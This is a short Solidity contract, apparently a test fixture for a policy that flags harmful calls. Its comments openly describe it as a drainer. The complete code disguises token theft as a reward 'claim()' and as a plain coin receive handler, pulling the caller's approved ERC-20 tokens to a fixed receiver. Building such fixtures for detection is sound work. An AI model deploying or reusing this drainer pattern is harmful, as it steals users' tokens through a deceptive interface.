// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title A contract that pulls tokens through an allowance granted earlier
/// @notice What a policy must not mistake for a harmless call: `claim()` looks like a reward claim,
///         but moves `from`'s tokens to `receiver` up to the allowance `from` once gave this contract.
///         `receive()` does the same on a plain transfer of the native coin. The effects tests use it.
contract AllowanceDrainer {
    IERC20 private immutable _token;
    address private immutable _receiver;

    constructor(IERC20 token, address receiver) {
        _token = token;
        _receiver = receiver;
    }

    function claim() external {
        _drain(msg.sender);
    }

    receive() external payable {
        _drain(msg.sender);
    }

    function _drain(address from) private {
        uint256 amount = _token.allowance(from, address(this));
        uint256 balance = _token.balanceOf(from);
        _token.transferFrom(from, _receiver, amount < balance ? amount : balance);
    }
}
